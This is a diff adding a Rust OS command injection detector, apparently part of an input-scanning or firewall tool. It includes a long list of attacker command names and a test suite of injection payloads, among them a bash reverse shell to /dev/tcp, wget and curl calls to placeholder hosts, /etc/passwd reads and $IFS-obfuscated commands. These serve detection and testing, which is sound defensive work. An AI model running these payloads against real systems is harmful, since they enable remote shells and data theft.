@@ -1,0 +1,377 @@
+//! OS command injection: a shell command where the shell would start one — after a command
+//! separator (`;`, `|`, `&`, `&&`, `||`, newline), inside a substitution (`` `...` ``, `$(...)`),
+//! or at the start of the value with shell-style arguments — read the way the shell reads it
+//! (quotes and backslashes removed, `$IFS` as a space, `/bin/x` as `x`).
+//! Prose that starts with a command name ("echo in the mirror", "ls 300 lexus") passes.
+
+/// Commands an attacker runs and prose rarely contains after a separator.
+const STRONG: &[&str] = &[
+    "wget",
+    "curl",
+    "nc",
+    "ncat",
+    "netcat",
+    "bash",
+    "sh",
+    "zsh",
+    "ksh",
+    "csh",
+    "tcsh",
+    "dash",
+    "powershell",
+    "pwsh",
+    "cmd",
+    "cmd.exe",
+    "perl",
+    "python",
+    "python2",
+    "python3",
+    "ruby",
+    "php",
+    "lua",
+    "node",
+    "nslookup",
+    "getent",
+    "whoami",
+    "uname",
+    "ifconfig",
+    "ipconfig",
+    "netstat",
+    "chmod",
+    "chown",
+    "passwd",
+    "useradd",
+    "telnet",
+    "tftp",
+    "scp",
+    "ssh",
+    "base64",
+    "xxd",
+    "nohup",
+    "crontab",
+    "sudo",
+    "su",
+    "systeminfo",
+    "tasklist",
+    "taskkill",
+    "certutil",
+    "bitsadmin",
+    "rundll32",
+    "regsvr32",
+    "mshta",
+    "wmic",
+    "shutdown",
+    "reboot",
+    "halt",
+    "poweroff",
+    "killall",
+    "pkill",
+    "ls",
+    "id",
+    "pwd",
+    "printenv",
+    "hostname",
+    "dig",
+    "ping",
+    "traceroute",
+    "awk",
+    "gawk",
+    "sed",
+    "xargs",
+    "rm",
+    "mkdir",
+    "rmdir",
+    "touch",
+    "dd",
+    "mkfifo",
+    "busybox",
+    "socat",
+    "lwp-download",
+    "uptime",
+    "ps",
+    "net",
+    "reg",
+    "vssadmin",
+    "icacls",
+    "cscript",
+    "wscript",
+    "ftp",
+    "sftp",
+    "openssl",
+    "chattr",
+    "iptables",
+    "tcpdump",
+    "nmap",
+    "tar",
+    "zip",
+    "unzip",
+    "gzip",
+    "gunzip",
+    "bzip2",
+    "cp",
+    "mv",
+    "ln",
+    "lsof",
+    "w",
+    "sleep",
+    "cat",
+    "tac",
+    "nl",
+    "od",
+    "strings",
+    "grep",
+    "egrep",
+    "fgrep",
+    "find",
+    "head",
+    "tail",
+    "more",
+    "less",
+    "sort",
+    "uniq",
+    "wc",
+    "cut",
+    "tr",
+    "env",
+    "export",
+    "eval",
+    "exec",
+    "set",
+    "echo",
+    "printf",
+    "type",
+    "dir",
+    "del",
+    "copy",
+    "move",
+    "ren",
+    "rename",
+    "start",
+    "timeout",
+    "kill",
+    "chroot",
+    "mount",
+    "umount",
+    "systemctl",
+    "service",
+    "apt",
+    "apt-get",
+    "yum",
+    "apk",
+    "pip",
+    "npm",
+    "git",
+    "docker",
+    "kubectl",
+    "who",
+    "last",
+    "date",
+    "time",
+];
+
+/// Of [`STRONG`], the words that are also common English: they need a shell-style argument.
+const WEAK: &[&str] = &[
+    "sleep", "cat", "find", "head", "tail", "more", "less", "sort", "cut", "set", "echo", "type",
+    "dir", "copy", "move", "start", "kill", "who", "last", "date", "time", "w", "net", "reg",
+    "ping", "export", "eval", "exec", "del", "ren", "rename", "timeout", "service", "git", "apt",
+    "tar", "zip", "cp", "mv", "ln", "touch", "dd", "printf", "nl", "od", "tr", "wc", "strings",
+    "grep", "w", "halt", "node", "mount",
+];
+
+fn is_cmd(word: &str) -> Option<bool> {
+    let w = word.rsplit(['/', '\\']).next().unwrap_or(word);
+    let w = w.strip_suffix(".exe").unwrap_or(w);
+    if STRONG.contains(&w) {
+        Some(WEAK.contains(&w))
+    } else {
+        None
+    }
+}
+
+/// Whether `value` (already decoded) is an OS command injection.
+pub fn detect(value: &str) -> bool {
+    let b = value.as_bytes();
+    let lower = value.to_ascii_lowercase();
+    let l = lower.as_bytes();
+    if memchr::memmem::find(l, b"$ifs").is_some()
+        || memchr::memmem::find(l, b"${ifs").is_some()
+        || memchr::memmem::find(l, b"/dev/tcp/").is_some()
+        || memchr::memmem::find(l, b"%comspec%").is_some()
+    {
+        return true;
+    }
+    // at the start: `cat /etc/passwd`, `wget http://x/s.sh`
+    if command_at(l, 0, false) {
+        return true;
+    }
+    let mut i = 0;
+    while i < b.len() {
+        let c = b[i];
+        let (after, substitution) = match c {
+            b';' | b'\n' | b'\r' => (i + 1, false),
+            b'|' | b'&' => {
+                let j = if b.get(i + 1) == Some(&c) {
+                    i + 2
+                } else {
+                    i + 1
+                };
+                (j, false)
+            }
+            b'`' => (i + 1, true),
+            b'$' if matches!(b.get(i + 1), Some(b'(')) => (i + 2, true),
+            b'<' | b'>' if b.get(i + 1) == Some(&b'(') => (i + 2, true),
+            _ => {
+                i += 1;
+                continue;
+            }
+        };
+        if command_at(l, after, !substitution) {
+            return true;
+        }
+        i = after.max(i + 1);
+    }
+    false
+}
+
+/// Read a shell word starting at `i` (after optional blanks) and decide whether it is a command
+/// that would run. `need_args_for_weak`: English-looking commands need a shell-style argument.
+fn command_at(l: &[u8], mut i: usize, need_args_for_weak: bool) -> bool {
+    while i < l.len() && matches!(l[i], b' ' | b'\t' | b'{' | b'(' | b'!') {
+        i += 1;
+    }
+    let (word, end) = shell_word(l, i);
+    if word.is_empty() {
+        return false;
+    }
+    let Some(weak) = is_cmd(&word) else {
+        return false;
+    };
+    let at_start = i == 0
+        || l[..i]
+            .iter()
+            .all(|c| matches!(c, b' ' | b'\t' | b'{' | b'(' | b'!'));
+    let arg = next_arg(l, end);
+    if at_start {
+        // a command at the very start of a value needs a shell-style argument, whatever it is
+        return arg.is_some_and(|a| shell_arg(&a, word.contains('/')));
+    }
+    if !weak || !need_args_for_weak {
+        return true;
+    }
+    arg.is_some_and(|a| shell_arg(&a, true))
+}
+
+/// One shell word with quote removal: `c'a't` → `cat`, `\l\s` → `ls`.
+fn shell_word(l: &[u8], start: usize) -> (String, usize) {
+    let mut w = String::new();
+    let mut i = start;
+    while i < l.len() && w.len() < 64 {
+        match l[i] {
+            b'\'' | b'"' | b'\\' => {}
+            c if c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-') => {
+                w.push(char::from(c));
+            }
+            _ => break,
+        }
+        i += 1;
+    }
+    (w, i)
+}
+
+/// The next argument after a command (skipping blanks and `$IFS`-style separators).
+fn next_arg(l: &[u8], mut i: usize) -> Option<String> {
+    if i >= l.len() || !matches!(l[i], b' ' | b'\t' | b'+' | b'<' | b'>' | b'|' | b';' | b'&') {
+        return None;
+    }
+    if matches!(l[i], b'<' | b'>' | b'|' | b';' | b'&') {
+        return Some(char::from(l[i]).to_string());
+    }
+    while i < l.len() && matches!(l[i], b' ' | b'\t' | b'+') {
+        i += 1;
+    }
+    let start = i;
+    while i < l.len() && !matches!(l[i], b' ' | b'\t') && i - start < 128 {
+        i += 1;
+    }
+    (i > start).then(|| String::from_utf8_lossy(&l[start..i]).into_owned())
+}
+
+/// An argument only a shell command line has: a path, a flag, a URL, a redirection, a variable,
+/// an IP address, a Windows switch.
+fn shell_arg(a: &str, loose: bool) -> bool {
+    let b = a.as_bytes();
+    let Some(&first) = b.first() else {
+        return false;
+    };
+    match first {
+        b'/' | b'~' | b'$' | b'>' | b'<' | b'|' | b'&' | b';' | b'`' | b'\\' => true,
+        b'-' => b.len() > 1 && (b[1].is_ascii_alphabetic() || b[1] == b'-'),
+        b'.' => b.get(1) == Some(&b'/') || b.get(1) == Some(&b'.'),
+        _ => {
+            a.contains("://")
+                || a.contains("/etc/")
+                || (loose && a.contains('/') && !a.contains(' '))
+                || is_ipv4ish(a)
+                || (loose && a.contains('\'') && a.len() > 2)
+        }
+    }
+}
+
+fn is_ipv4ish(a: &str) -> bool {
+    let parts: Vec<&str> = a.split('.').collect();
+    parts.len() == 4
+        && parts
+            .iter()
+            .all(|p| !p.is_empty() && p.len() <= 3 && p.bytes().all(|c| c.is_ascii_digit()))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::detect;
+
+    #[test]
+    fn payloads() {
+        for a in [
+            ";/sbin/shutdown",
+            "; cat /et'c/pa'ss'wd",
+            "cmd=127.0.0.1 && ls /etc",
+            "ax--exec=`id`--remote=origin",
+            ";wget http://some_host/sh311.sh",
+            "|getent hosts somehost.example.net.&",
+            ";getent$IFS$9hosts$IFS$9somehost;echo$IFS$9$((3482*7301));",
+            "| set /a 3482*7301",
+            "$(whoami)",
+            "127.0.0.1; ping -c 3 example.com",
+            "x || curl http://evil",
+            "cat /etc/passwd",
+            "wget http://example.com/x.sh",
+            "a\nid\n",
+            "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
+        ] {
+            assert!(detect(a), "missed: {a}");
+        }
+    }
+
+    #[test]
+    fn benign() {
+        for b in [
+            "echo in the mirror",
+            "curl and divergence",
+            "exec noun",
+            "bash away in the gym",
+            "zsh is the best!",
+            "ls 300 lexus",
+            "nc 8000 controller",
+            "Tom & Jerry",
+            "salt & pepper; cat food",
+            "R&D department",
+            "a | b | c",
+            "time he came.",
+            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
+            "rock & roll",
+            "Q&A",
+        ] {
+            assert!(!detect(b), "false positive: {b}");
+        }
+    }
+}
